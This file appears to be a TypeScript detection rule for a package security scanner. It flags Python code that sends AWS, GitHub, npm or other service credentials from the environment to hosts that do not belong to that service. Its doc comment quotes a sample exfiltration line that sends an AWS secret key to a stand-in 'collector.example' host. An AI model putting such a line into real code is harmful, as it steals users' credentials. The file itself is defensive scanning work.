import type { Severity, Vector } from '../../model/index.js';
import type { CodeEvent } from '../shared/events.js';
import { when } from '../shared/snippet.js';

type Report = (severity: Severity, s: { file: string; line: number; vector: Vector }, message: string, evidence: string) => void;

/** Credential variables of one service, and the hosts of that service, which are the only ones that take them. */
const SERVICES: Array<{ name: RegExp; service: string; hosts: RegExp }> = [
  { name: /^AWS_/, service: 'AWS', hosts: /(^|\.)(amazonaws\.com(\.cn)?|aws\.amazon\.com|amazon\.com)$/ },
  { name: /^(GITHUB|GH)_/, service: 'GitHub', hosts: /(^|\.)(github\.com|githubusercontent\.com|ghe\.com)$/ },
  { name: /^(NPM|NODE_AUTH)_/, service: 'npm', hosts: /(^|\.)(npmjs\.org|npmjs\.com)$/ },
  { name: /^(PYPI|TWINE)_/, service: 'PyPI', hosts: /(^|\.)(pypi\.org|python\.org)$/ },
  { name: /^OPENAI_/, service: 'OpenAI', hosts: /(^|\.)openai\.com$/ },
  { name: /^ANTHROPIC_/, service: 'Anthropic', hosts: /(^|\.)anthropic\.com$/ },
  { name: /^SLACK_/, service: 'Slack', hosts: /(^|\.)slack\.com$/ },
  { name: /^DISCORD_/, service: 'Discord', hosts: /(^|\.)(discord\.com|discordapp\.com)$/ },
  { name: /^(HF|HUGGINGFACE)_/, service: 'Hugging Face', hosts: /(^|\.)(huggingface\.co|hf\.co)$/ },
];

/** Local hosts: a development proxy or an emulator (LocalStack) may take any credential. */
const LOCAL = /^(localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|host\.docker\.internal)$/;
/** The host at the start of a URL argument, folded or written as the first literal of a concatenation or f-string. */
const LEADING_URL = /^\s*[rRbBuUfF]*(['"])(?:https?|wss?):\/\/([^'"{}\s/:?#]+)/;

function hostOf(e: CodeEvent): string | undefined {
  const target = e.call?.args[0] ?? e.call?.kwargs['url'];
  if (!target) return undefined;
  if (target.value !== undefined) {
    try {
      return new URL(target.value).hostname.toLowerCase() || undefined;
    } catch {
      return undefined;
    }
  }
  return LEADING_URL.exec(target.text)?.[2]?.toLowerCase();
}

/**
 * A service's credential read from the environment by name and sent to a host written in the code that is not
 * that service's (`requests.get('https://collector.example/' + self.access + '/' + self.secret)` after
 * `self.secret = environ.get('AWS_SECRET_ACCESS_KEY')`, the 2022 `ctx` takeover): nobody else takes an AWS
 * secret key or a GitHub token. **Critical** at install or import time, **high** when called. Only services
 * whose hosts are known; a destination from configuration (an enterprise server, a proxy) is not judged.
 */
export function credentialsToOtherHosts(sinks: readonly CodeEvent[], report: Report): void {
  for (const e of sinks) {
    if (e.capability !== 'network' || e.language !== 'python') continue;
    // The secret itself first (`AWS_SECRET_ACCESS_KEY` before `AWS_ACCESS_KEY_ID`).
    const names = e.refs.flatMap((r) => /^os\.environ\[(\w+)\]$/.exec(r)?.[1] ?? []).sort((a, b) => Number(/SECRET|TOKEN|PASSWORD/.test(b)) - Number(/SECRET|TOKEN|PASSWORD/.test(a)));
    if (names.length === 0) continue;
    const host = hostOf(e);
    if (host === undefined || LOCAL.test(host)) continue;
    for (const name of names) {
      const svc = SERVICES.find((s) => s.name.test(name));
      if (!svc || svc.hosts.test(host)) continue;
      const early = e.vector === 'install' || e.vector === 'import';
      report(early ? 'critical' : 'high', e, `sends ${name}, a credential of ${svc.service}, to ${host}, which is not ${svc.service}'s, ${when(e)}`, e.text);
      break;
    }
  }
}
